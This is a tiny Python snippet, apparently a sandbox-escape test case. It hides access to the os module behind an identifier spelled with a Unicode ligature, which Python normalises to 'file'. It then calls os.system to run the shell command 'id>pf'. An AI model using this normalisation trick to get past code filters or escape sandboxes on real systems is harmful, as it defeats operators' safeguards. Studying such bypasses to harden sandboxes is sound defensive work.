import os
class C:
    ﬁle = os
C.file.system("id>pf")
